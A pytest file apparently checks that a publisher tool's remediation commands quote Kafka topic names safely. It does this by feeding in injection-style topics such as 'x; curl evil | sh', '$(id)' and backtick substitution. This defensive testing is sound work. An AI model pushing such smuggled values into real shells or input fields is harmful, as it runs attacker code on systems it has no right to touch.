"""The commands that a stopped lane names are safe to paste, whatever a row or the outbox calls a topic."""

import re
import shlex

import pytest

from publisher.protocol.remediation import park_command, replaced_topic, replay_command


@pytest.mark.parametrize(
    "topic", ["orders", "eu.orders-1_x", "x; curl evil | sh", "$(id)", "it's", "a`b`c", "a\nb"]
)
def test_a_topic_is_one_word_of_the_command(topic: str) -> None:
    assert shlex.split(park_command(topic)) == ["publisher", "parked", "park", "--topic", topic]
    assert shlex.split(replay_command(topic)) == ["publisher", "replay", "start", "--topic", topic]
    accepting = ["publisher", "resume", "--from", "kafka", "--accept-new-topic"]
    words = re.split(r"`(?=publisher)", replaced_topic(topic))[1].rpartition("`")[0]
    assert shlex.split(words) == [*accepting, topic]


def test_a_topic_of_kafka_is_shown_as_it_is() -> None:
    assert park_command("eu.orders-1_x") == "publisher parked park --topic eu.orders-1_x"
